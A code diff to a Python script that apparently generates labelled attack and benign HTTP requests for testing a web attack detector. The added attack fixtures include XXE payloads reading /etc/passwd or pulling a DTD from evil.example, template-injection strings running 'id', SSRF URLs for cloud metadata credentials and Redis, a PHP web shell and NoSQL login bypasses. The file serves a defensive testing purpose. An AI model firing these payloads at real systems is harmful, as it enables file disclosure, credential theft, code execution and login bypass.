@@ -158,6 +158,25 @@ for i, p in enumerate(EXTRA_ATTACKS):
     fam = "sqli" if i < 21 else "xss" if i < 39 else "path-traversal" if i < 53 else "cmd-injection" if i < 76 else "log4shell"
     attacks.append((fam, req("GET", "/find?q=" + q(p))))
 
+# XXE, SSTI, SSRF, PHP and NoSQL injection.
+XXE_BODY = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'
+attacks.append(("xxe", req("POST", "/xml/api", body=XXE_BODY, ctype="application/xml")))
+attacks.append(("xxe", req("POST", "/xml/api", body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>', ctype="text/xml")))
+attacks.append(("xxe", deliver('<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/">]><a>&b;</a>', 0)))
+for i, p in enumerate(["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
+                       "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
+                       "{% import os %}{{ os.system('id') }}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"]):
+    attacks.append(("ssti", deliver(p, i)))
+for i, p in enumerate(["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
+                       "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "http://[fd00:ec2::254]/latest/meta-data/"]):
+    attacks.append(("ssrf", req("GET", "/fetch?url=" + q(p))))
+for i, p in enumerate(["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", ";system('id')",
+                       "phpinfo();", "';eval($_POST['x']);//", "expect://id"]):
+    attacks.append(("php-injection", deliver(p, i + 1)))
+attacks.append(("nosql-injection", req("POST", "/login", body="username[$ne]=x&password[$ne]=x", ctype="application/x-www-form-urlencoded")))
+attacks.append(("nosql-injection", req("GET", "/users?name[$regex]=.*&role[$ne]=guest")))
+attacks.append(("nosql-injection", req("POST", "/api/find", body=json.dumps({"$where": "sleep(5000) || true"}), ctype="application/json")))
+
 # ---------------------------------------------------------------- benign
 benign = []
 NAMES = ["O'Brien", "D'Angelo", "Mary-Jane O'Neil", "José Álvarez", "Zoë Saldaña", "Nguyễn Văn An", "Müller-Lüdenscheidt",
@@ -265,6 +284,14 @@ XML = ['<?xml version="1.0"?><order><id>42</id><customer>O\'Brien &amp; Co</cust
 for x in XML:
     for i in range(3):
         benign.append(req("POST", "/xml/api", body=x, ctype="application/xml"))
+
+benign.append(req("GET", "/api/articles?filters[price][$gt]=10&filters[title][$contains]=shoes&sort[0]=price:asc"))
+benign.append(req("POST", "/api/schema", body=json.dumps({"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "x", "type": "object", "properties": {"a": {"$ref": "#/defs/a"}}}), ctype="application/json"))
+for t in ["Hello {{ user.name }}!", "Total: ${price} USD", "#{count} items", "<%= title %>", "{% if user %}Hi{% endif %}", "5 * 3 = 15", "{{ 'now' | date }}",
+          "v2-3 release", "${HOME}/bin", "see http://localhost:8080/health", "http://127.0.0.1:3000/callback", "callback=https://app.example.com/oauth/cb",
+          "system requirements (minimum)", "exec summary (draft)", "eval(uation) form", "include (optional)", "the assert() macro in C"]:
+    benign.append(req("GET", "/find?q=" + q(t)))
+    benign.append(req("POST", "/api/v1/notes", body=json.dumps({"text": t}), ctype="application/json"))
 
 # Everyday phrases that look like syntax, as a query parameter and as a JSON value.
 PHRASES = ['Rock & Roll Hall of Fame', 'select your size', 'Union Square, San Francisco', 'Drop files here to upload', "It's 5 o'clock", 'The "best" pizza in town', "Ben & Jerry's", '1=1 is true', 'x >= 10 && y <= 20', 'SELECT the right option', "Mr. O'Malley's pub", "don't -- stop", 'I\'m at 5\'9"', 'a; b; c', 'Q&A session', 'C:\\Users\\bob\\Desktop', '/home/bob/.bashrc', 'https://www.example.com/path?query=1&b=2#frag', 'mailto:someone@example.com', 'tel:+1-555-0100', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', '{"a":1,"b":[1,2,3],"c":{"d":"e"}}', '[1,2,3]', "font-family: 'Open Sans', sans-serif; color: #333;", 'background: url(/img/bg.png) no-repeat;', 'width: calc(100% - 20px)', 'Hello, World!', '¿Dónde está la biblioteca?', 'Ça va? Très bien, merci.', '50% off — today only!', '#1 best seller', '@username', 'cat /var/log/app.log explained', 'how to kill a process in linux', 'echo chamber', 'ping me later', 'The Who - Live at Leeds', 'Procter & Gamble', 'AT&T; Verizon; T-Mobile', '2 + 2 = 4', 'f(x) = x^2 + 3x - 1', 'print("hello")', "console.log('debug')", 'if (x) { return; }', '<3', ':-)', ';-)', "user's_file-v2.final.pdf", '../', './relative/path.txt', 'report.2024.final.docx', 'SELECT * FROM products WHERE price < 100 is a query I use daily', 'order by date desc', 'sort=-created_at', 'filter[status]=active', 'id in (1,2,3)', 'ALTER EGO comic', 'Drop Dead Gorgeous (1999)', 'Exec summary', 'Update: shipped', 'Delete account?', 'Insert coin to continue', 'Truncate text after 20 chars', 'Union Pacific Railroad', "O'Reilly Media; Sebastopol, CA", 'Smith & Wesson', 'Johnson & Johnson', 'Tom\'s "special" sauce', '\'quoted\' and "double"', '--verbose flag', '-- end of message', '/* not a comment */', '# heading', '<br>', '<b>bold</b>', '<p>paragraph</p>', '<a href="https://example.com">link</a>', '<img src="/a.png" alt="a">', '<3 love', 'javascript tutorial for beginners', 'on the road again', 'online shopping', 'onload event explained', 'document management system', 'window cleaning services', 'alert: system maintenance tonight', 'script for a play', 'x=1&y=2', 'a=b', 'key=value; other=thing', '1; DROP the beat', 'sleep(8) hours', 'benchmark results 2024', 'char(10) in excel', 'concat strings in python', 'having a great day', 'group by activity', 'where to eat', 'from a to z', 'and/or', 'or else what', 'not null value', 'is null?']
